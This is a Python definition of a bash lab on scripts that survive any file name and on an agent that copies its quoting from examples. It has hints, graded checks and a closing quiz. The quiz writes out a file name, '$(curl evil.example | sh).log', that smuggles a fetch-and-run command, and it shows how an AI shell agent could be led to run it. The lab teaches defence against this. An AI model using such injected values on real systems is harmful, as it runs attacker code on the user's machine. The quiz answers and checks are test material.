"""m0/bash: scripts that take any file name, and an agent that learns its quoting from yours."""

from __future__ import annotations

from agentlab.labs import Lab, ReadStep
from agentlab.labs.checks import every, share
from agentlab.labs.declare import Drawn, agent_step, quiz, right, shell_step, wrong

from . import answers
from .cases import questions, tallies, unfinished
from .judging import (
    left_alone,
    miscounted,
    misended,
    misnamed,
    not_quiet,
    read_by_the_shell,
    silent,
)
from .tools import run_script, sandbox, shell

lab = Lab(
    id="m0/bash",
    title="A file name is data",
    teaches=(
        "pipes and loops that hold for every file name",
        "exit codes that tell what happened",
        "what a model's shell commands take from yours",
    ),
    minutes=25,
    backend="local:agent",
    tools=(run_script, shell),
    equip=sandbox,
    steps=(
        ReadStep(id="words"),
        shell_step(
            "tally",
            answers.TALLY,
            Drawn(tallies, practice=3, graded=8),
            runs_on="run_script",
            hints=(
                "Run it, and read which folder it fails in. Which words does the shell make of "
                "$1 there?",
                "Loop over the files, and let each be read on its own, so that no line is glued "
                "to the next file. shopt -s nullglob: a pattern without a match is nothing.",
                'shopt -s nullglob; for run in "$1"/*.jsonl; do grep … < "$run"; done | '
                "grep -o … | cut … | sort | uniq -c | sort -k1,1nr -k2",
            ),
            checks=(
                every("counted", "in every folder, the calls of every run are counted", miscounted),
                every(
                    "quiet",
                    "where nothing is wrong, it exits with 0 and does not complain",
                    not_quiet,
                ),
                every("harmless", "no file is made, changed or lost", left_alone),
            ),
        ),
        shell_step(
            "unfinished",
            answers.UNFINISHED,
            Drawn(unfinished, practice=4, graded=11),
            runs_on="run_script",
            hints=(
                "When is a script's exit code the one of its last command? And what is the last "
                "command of yours?",
                "Keep the status in a variable. A loop behind a pipe runs in a shell of its own: "
                "what it sets is gone when it ends.",
                'cd -- "$1" || exit 2; status=0; for run in *.jsonl; do … || { printf '
                '\'%s\\0\' "$run"; status=1; }; done; exit "$status"',
            ),
            checks=(
                every("named", "the unfinished runs are named, each name ended by a NUL", misnamed),
                every("status", "the exit code is 0, 1 or 2, as agreed", misended),
                every("told", "where it can't do its work, people are told why", silent),
                every("harmless", "no file is made, changed or lost", left_alone),
            ),
        ),
        agent_step(
            "clerk",
            answers.CLERK,
            Drawn(questions, practice=3, graded=9),
            tools=("shell",),
            hints=(
                "Read the commands it writes, beside those of the examples. What do they share?",
                "Show it names like those it will get, in commands that are right for any name.",
                r'arguments = { command = "grep -c error -- \"old mail.log\"" }: -- for the dash, '
                "and quotes that a space and an apostrophe can't end.",
            ),
            checks=(
                share(
                    "read",
                    "seven in nine answers are right, and printed by the shell",
                    read_by_the_shell,
                    7 / 9,
                ),
            ),
        ),
        quiz(
            "whose-quotes",
            "A name that bites",
            (
                "Your clerk quotes as you do. Somebody uploads a log called  $(curl evil.example "
                "| sh).log  and asks how many errors are in it. What keeps the command from "
                "being run?"
            ),
            wrong(
                'The double quotes: grep -c error -- "$(curl evil.example | sh).log"',
                "Between double quotes the shell still runs what is in $( ). You met such a "
                "name in the first script, where it came from a variable, and did nothing.",
            ),
            wrong(
                "An instruction: Never run commands that stand in a file name.",
                "The model does not run anything. It copies a name into a line, and the shell "
                "reads the line.",
            ),
            right(
                "A tool count_errors(name) that hands the name to grep as an argument.",
                'Then no shell reads it: the name is data all the way, as "$run" was in yours.',
            ),
            wrong(
                "Single quotes in the examples instead of double ones.",
                "They hold until a name has an apostrophe: the next upload is called "
                "'$(…)'.log, and ends your quotes itself.",
            ),
            hints=("Where does the name stop being data? Is there a road on which it never does?",),
        ),
    ),
)
